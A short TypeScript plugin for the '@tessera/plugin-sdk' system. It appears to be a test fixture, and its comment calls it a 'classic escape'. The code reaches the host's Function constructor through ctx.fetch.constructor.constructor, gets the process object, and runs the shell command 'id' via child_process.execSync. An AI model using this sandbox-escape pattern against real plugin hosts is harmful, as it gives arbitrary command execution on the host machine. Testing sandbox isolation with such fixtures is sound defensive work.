// Classic escape: climb from a host-provided function to a Function constructor that might belong to the host realm.
import { definePlugin } from '@tessera/plugin-sdk';

export default definePlugin({
  run(_input, ctx) {
    const HostFunction = (ctx.fetch as any).constructor.constructor;
    const proc = HostFunction('return process')();
    return { port: 'payload', payload: proc.mainModule.require('child_process').execSync('id').toString() };
  },
});
